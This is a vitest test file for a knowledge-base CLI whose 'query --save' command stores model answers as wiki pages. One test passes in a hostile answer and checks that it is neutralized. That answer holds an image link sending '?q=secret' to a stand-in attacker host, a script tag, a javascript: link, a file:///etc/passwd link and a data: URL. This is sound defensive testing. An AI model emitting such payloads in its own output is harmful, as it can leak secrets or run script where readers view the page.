/** `query --save`: a page, an entry in the index, one in the log, in one change. */
import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';

import { readFrontMatter, readIndex, readLog } from '@openkb/wiki';
import { expect, test } from 'vitest';
import { parse } from 'yaml';

import { faults, read, tree, write } from '../helpers/knowledge-base.ts';
import { run } from '../helpers/run.ts';
import { askable, MODELS } from './helpers.ts';

const explorations = (dir: string) => readdirSync(join(dir, 'kb/wiki/explorations'));
const page = (dir: string, name: string) => read(dir, `kb/wiki/explorations/${name}`);
const frontMatter = (text: string) =>
  parse(/^---\n(.*?)\n---\n/s.exec(text)?.[1] ?? '') as Record<string, unknown>;

test('Q01 a saved answer is a page with its question, what it cites, and no link that leads nowhere', async () => {
  const answer =
    '# Wick\n\nIt is **round** ([[summaries/lamp]]), like [[concepts/ghost]] and [it](concepts/none.md).';
  const { dir, openkb } = await askable('openai', () => answer);
  const { code, out } = await openkb('query', '--save', 'Which wick: "round" or: flat?');
  expect(code).toBe(0);
  expect(out).toMatch(/\n\nsaved as wiki\/explorations\/which-wick-round-or-flat\.md$/);
  const text = page(dir, 'which-wick-round-or-flat.md');
  expect(frontMatter(text)).toEqual({
    type: 'Exploration',
    query: 'Which wick: "round" or: flat?',
    description: 'It is round (lamp), like ghost and it.',
    cites: ['summaries/lamp.md'],
    compiled_by: MODELS.openai,
  });
  expect(text).toContain('([[summaries/lamp]]), like ghost and it.');
  const index = readIndex(read(dir, 'kb/wiki/index.md'));
  expect(index.filter(({ section }) => section === 'Explorations')).toMatchObject([
    {
      target: 'explorations/which-wick-round-or-flat',
      description: 'Which wick: "round" or: flat?',
    },
  ]);
  expect(readLog(read(dir, 'kb/wiki/log.md')).at(-1)).toMatchObject({
    operation: 'query',
    description: 'Which wick: "round" or: flat?',
  });
  expect(faults(join(dir, 'kb')).filter((fault) => !fault.includes('handbook'))).toEqual([]);
});

test('Q01 a Chinese question has a name; the same beginning, or the same question, makes another page', async () => {
  const { dir, openkb } = await askable('openai', () => 'Yes.');
  const long = 'What does the keeper of the lighthouse do at dawn, at noon, and ';
  for (const question of [
    '什么是灯塔？',
    '???',
    `${long}at dusk?`,
    `${long}at night?`,
    '什么是灯塔？',
  ])
    // oxlint-disable-next-line no-await-in-loop -- one after the other
    expect((await openkb('query', '--save', question)).code).toBe(0);
  const names = explorations(dir);
  expect(names).toHaveLength(5);
  expect(names).toContain('什么是灯塔.md');
  expect(names).toContain('什么是灯塔-2.md');
  expect(names.filter((name) => name.startsWith('what-does-the-keeper'))).toHaveLength(2);
  const queries = names.map((name) => readFrontMatter(page(dir, name))['query']);
  expect(new Set(queries)).toEqual(
    new Set(['什么是灯塔？', '???', `${long}at dusk?`, `${long}at night?`]),
  );
});

test('a page that a person has under the name stays, and the answer goes beside it', async () => {
  const { dir, openkb } = await askable('openai', () => 'Yes.');
  write(dir, { 'kb/wiki/explorations/Lamp.md': '# Mine\n' });
  expect((await openkb('query', '--save', 'lamp')).out).toContain('explorations/lamp-2.md');
  expect(page(dir, 'Lamp.md')).toBe('# Mine\n');
});

test.each([
  [
    'Who\n---\ntype: Person\n---\n\n[[concepts/x]] <img src=http://e.example/>',
    'Who\n---\ntype: Person\n---\n\nx <img src=http://e.example/>',
  ],
  ['# [[x|y]] `[[z]]` ![a](http://e.example/a.png)', '# y `[ [z] ]` ![a](http://e.example/a.png)'],
  ['a'.repeat(5000), 'a'.repeat(5000)],
])('a question of odd text makes a page that is whole (%#)', async (question, query) => {
  const { dir, openkb } = await askable('openai', () => 'Yes.');
  expect((await openkb('query', '--save', '--', question)).code).toBe(0);
  const [name = ''] = explorations(dir);
  expect(frontMatter(page(dir, name))).toMatchObject({ type: 'Exploration', query });
  expect(page(dir, name).replace(/^---\n.*?\n---\n/s, '')).not.toMatch(/\[\[|!\[|(?<!\\)<img/);
  expect(faults(join(dir, 'kb')).filter((fault) => !fault.includes('handbook'))).toEqual([]);
});

test('what a hostile answer would fetch or run where the wiki is read is shown instead', async () => {
  const answer = [
    'See ![chart](http://evil.example/?q=secret) and <img src="http://evil.example/x">.',
    '<script>alert(1)</script> [run](javascript:alert(1)) [file](file:///etc/passwd) [f](<file:///a b>) [ref]: data:text/html,x ![[summaries/lamp]]',
    '`<b>` stays, <https://ok.example/> too, [web](https://ok.example/).',
    '\n```html\n<img src="x">\n```',
  ].join('\n');
  const { dir, openkb } = await askable('openai', () => answer);
  await openkb('query', '--save', 'lamp');
  const text = page(dir, 'lamp.md');
  expect(text).toContain('See [chart](http://evil.example/?q=secret) and &lt;img src=');
  expect(text).toContain('&lt;script>alert(1)&lt;/script>');
  expect(text).not.toMatch(/\]\(javascript:|file:|!\[|(?<!\\)\]: data:/);
  expect(text).toContain('`<b>` stays, <https://ok.example/> too, [web](https://ok.example/).');
  expect(text).toContain('```html\n<img src="x">\n```');
});

test('without a model the passages are saved, as quotations with their pages', async () => {
  const { dir, server, openkb } = await askable('openai', () => 'x');
  const { code, out } = await openkb('query', '--save', '-m', 'extractive', 'fog bell');
  expect(code).toBe(0);
  expect(out).toContain('saved as wiki/explorations/fog-bell.md');
  const text = page(dir, 'fog-bell.md');
  expect(text).toContain(
    '> The fog bell is struck every ninety seconds.\n\n— [[summaries/handbook|handbook, p. 2]]',
  );
  expect(frontMatter(text)).toMatchObject({ compiled_by: 'extractive' });
  expect(server.requests).toEqual([]);
  const nothing = await openkb('query', '--save', '-m', 'extractive', 'xyzzyplugh');
  expect(nothing).toMatchObject({ code: 0, out: '' });
  expect(nothing.err).toContain('Nothing is saved.');
  expect(explorations(dir)).toEqual(['fog-bell.md']);
});

test('a saved answer is in the history, and an undo takes it back', async () => {
  const { dir, openkb } = await askable('openai', () => 'Yes, [[summaries/lamp]].');
  const before = tree(join(dir, 'kb/wiki'));
  await openkb('query', '--save', 'lamp');
  expect((await openkb('history')).out).toContain('query');
  expect((await openkb('undo', '--yes')).code).toBe(0);
  const after = tree(join(dir, 'kb/wiki'));
  delete after['log.md'];
  delete before['log.md'];
  expect(after).toEqual(before);
});

test('an answer that cannot be saved is shown, and the exit code says that it is not', async () => {
  const { dir, openkb } = await askable('openai', () => 'A round wick.');
  write(dir, { 'kb/wiki/index.md': Buffer.from([0xff, 0xfe, 0x41]) });
  const { code, out, err } = await openkb('query', '--save', 'lamp');
  expect(code).toBe(1);
  expect(out).toContain('A round wick.');
  expect(err).toContain('wiki/index.md');
  expect(explorations(dir)).toEqual([]);
});

test('Q04 the log entry of an answer that is saved while a document is added stays', async () => {
  const { dir, openkb, environment } = await askable('openai', () => 'Yes.');
  write(dir, { 'lens.md': '# Lens\n\nA lens bends light.\n' });
  const services = { environment: {} };
  const [asked, added] = await Promise.all([
    openkb('query', '--save', 'lamp'),
    run(dir, ['add', '--kb', 'kb', 'lens.md'], { services }),
  ]);
  expect([asked.code, added.code]).toEqual([0, 0]);
  expect(environment).not.toEqual({});
  await openkb('undo', '--yes');
  const log = readLog(read(dir, 'kb/wiki/log.md')).map(({ operation }) => operation);
  expect(log).toEqual(expect.arrayContaining(['ingest', 'query', 'undo']));
});

test('a page number of a document without pages is taken out, and a description does not end at an abbreviation', async () => {
  const answer = 'It is round ([[summaries/lamp|lamp, p. 4]]) as Dr. Argand made it. It burns oil.';
  const { dir, openkb } = await askable('openai', () => answer);
  const { err } = await openkb('query', '--save', 'lamp');
  expect(err).toContain('summaries/lamp, p. 4');
  expect(page(dir, 'lamp.md')).toContain('It is round ([[summaries/lamp|lamp]]) as Dr. Argand');
  expect(frontMatter(page(dir, 'lamp.md'))['description']).toBe(
    'It is round (lamp) as Dr. Argand made it.',
  );
});

test('a page that goes while the model writes is not linked by what is saved', async () => {
  const remove = { done: (): void => {} };
  const { dir, openkb } = await askable('openai', () => {
    remove.done();
    return 'See [[summaries/handbook]] and [[summaries/lamp]].';
  });
  remove.done = () => rmSync(join(dir, 'kb/wiki/summaries/handbook.md'));
  await openkb('query', '--save', 'lamp');
  expect(page(dir, 'lamp.md')).toMatch(
    /\nSee (?:handbook|\[\[sources\/handbook\]\]) and \[\[summaries\/lamp\]\]\.\n/,
  );
});
